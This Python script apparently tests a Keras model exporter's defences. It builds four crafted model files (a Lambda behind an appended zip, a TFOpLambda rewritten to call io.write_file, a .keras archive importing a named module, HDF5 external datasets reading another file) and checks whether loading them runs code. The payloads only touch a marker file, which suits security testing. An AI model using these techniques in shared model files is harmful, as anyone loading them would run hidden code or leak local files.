"""Make Keras files that do more than a network when Keras loads them, prove it, and give them to the exporter.

Usage: python keras_attacks.py FOLDER — prints a JSON object: for each attack whether it worked on Keras itself, and
what the exporter says of it. What an attack does is to make or read a file inside FOLDER.
"""

import json
import os
import pathlib
import sys
import zipfile

os.environ["TF_USE_LEGACY_KERAS"] = "1"

import h5py
import numpy as np
import tf_keras

FOLDER = pathlib.Path(sys.argv[1])
MARKER = FOLDER / "marker"
LAYERS = tf_keras.layers


def write_marker(x, path=str(MARKER)):
    """Do what an attack would; as a Lambda it must not need any import."""
    open(path, "w").close()
    return x


def edited(path, edit):
    """Change the configuration in an HDF5 file."""
    with h5py.File(path, "a") as file:
        config = json.loads(file.attrs["model_config"])
        edit(config["config"])
        file.attrs["model_config"] = json.dumps(config)


def a_lambda_with_a_zip_behind_it():
    """Keras goes by the name, Python's zipfile by the end."""
    model = tf_keras.Sequential([LAYERS.Input((4,)), LAYERS.Lambda(write_marker), LAYERS.Dense(3)])
    model.save(path := FOLDER / "zip_behind.h5")
    harmless = tf_keras.Sequential([LAYERS.Input((4,)), LAYERS.Dense(3)])
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("config.json", harmless.to_json())
        archive.writestr("metadata.json", "{}")
    return path


def a_tensorflow_function_that_writes_a_file():
    """A TFOpLambda calls any function of TensorFlow."""
    import tensorflow as tf

    image = LAYERS.Input((4,))
    tf_keras.Model(image, tf.math.add(LAYERS.Dense(3)(image), 1.0)).save(path := FOLDER / "operator.h5")

    def edit(config):
        (one,) = [layer for layer in config["layers"] if layer["class_name"] == "TFOpLambda"]
        one["config"]["function"] = "io.write_file"
        one["inbound_nodes"] = [["_CONSTANT_VALUE", -1, str(MARKER), {"contents": "text"}]]
        config["output_layers"] = [["dense", 0, 0]]
        for place, layer in enumerate(config["layers"]):
            layer["name"] = layer["config"]["name"] = ["image", "dense", "call"][place]
            if layer["class_name"] == "Dense":
                layer["inbound_nodes"] = [[["image", 0, 0, {}]]]
        config["input_layers"] = [["image", 0, 0]]

    edited(path, edit)
    return path


def a_module_of_others():
    """Keras 2 imports whatever module a .keras archive names."""
    (FOLDER / "imported.py").write_text(f"open({str(MARKER)!r}, 'w').close()\n")
    tf_keras.Sequential([LAYERS.Input((4,)), LAYERS.Dense(3)]).save(path := FOLDER / "module.keras")
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    config = json.loads(members["config.json"]) | {"module": "imported", "registered_name": None}
    members["config.json"] = json.dumps(config).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return path


def weights_whose_bytes_are_another_file():
    """HDF5 reads bytes of any file as numbers."""
    tf_keras.Sequential([LAYERS.Input((4,)), LAYERS.Dense(3, name="d")]).save(path := FOLDER / "bytes.h5")
    np.full(12, 7, np.float32).tofile(FOLDER / "secret.bin")
    with h5py.File(path, "a") as file:
        group = file["model_weights/d/d"]
        del group["kernel:0"]
        group.create_dataset("kernel:0", (4, 3), np.float32, external=[(str(FOLDER / "secret.bin"), 0, 48)])
    return path


def works(path):
    """Tell whether Keras, left to itself, does what the file wants."""
    MARKER.unlink(missing_ok=True)
    try:
        weights = tf_keras.models.load_model(path, compile=False).get_weights()
    except Exception:  # an attack may have done its work before
        weights = []
    return MARKER.exists() or any((value == 7).all() for value in weights)


def exported(path):
    """Return what the exporter says of a file, and whether a marker is there afterwards."""
    import export_keras
    from zoomill.errors import UserError

    MARKER.unlink(missing_ok=True)
    card = json.dumps({"inputs": [], "outputs": [], "labels": [], "label_offset": 0})
    flags = {"--model": "m", "--card": card, "--output-dir": str(FOLDER / "out")}
    flags |= {"--source": str(path.parent), "--options": json.dumps({"path": path.name})}
    try:
        export_keras.main([text for pair in flags.items() for text in pair])
    except UserError as error:
        return str(error), MARKER.exists()
    return "", MARKER.exists()


ATTACKS = (
    a_lambda_with_a_zip_behind_it,
    a_tensorflow_function_that_writes_a_file,
    a_module_of_others,
    weights_whose_bytes_are_another_file,
)

if __name__ == "__main__":
    sys.path.insert(0, str(FOLDER))
    result = {}
    for attack in ATTACKS:
        made = attack()
        refusal, marked = exported(made)
        result[attack.__name__] = {"works": works(made), "refusal": refusal, "marked": marked}
    print(json.dumps(result))
